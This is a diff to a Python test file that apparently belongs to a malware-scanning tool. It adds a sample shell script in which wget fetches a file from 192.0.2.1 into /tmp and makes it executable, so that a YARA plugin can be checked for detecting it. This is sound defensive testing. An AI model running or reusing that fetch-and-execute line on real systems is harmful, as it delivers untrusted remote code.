@@ -65,6 +65,11 @@ SAMPLES: dict[str, tuple[str, Callable[[], bytes], str]] = {
     "an encrypted PDF document": ("pdf", lambda: test_pdf.encrypted("infected"), "scripts"),
     "a shortcut": ("shortcuts", lambda: test_shortcuts.shortcut(test_shortcuts.CMD, "/c calc"), "traits"),
     "a page": ("html", lambda: test_html.SMUGGLED, "children"),
+    "a script that downloads": (
+        "yara",
+        b"#!/bin/sh\nwget http://192.0.2.1/x -O /tmp/x\nchmod +x /tmp/x\n".strip,
+        "matches",
+    ),
     "a message": ("email", lambda: test_email.mail(("a.js", b"x")), "children"),
 }
 """Name -> plugin, how its sample is made, and a key of the result that is not empty then."""
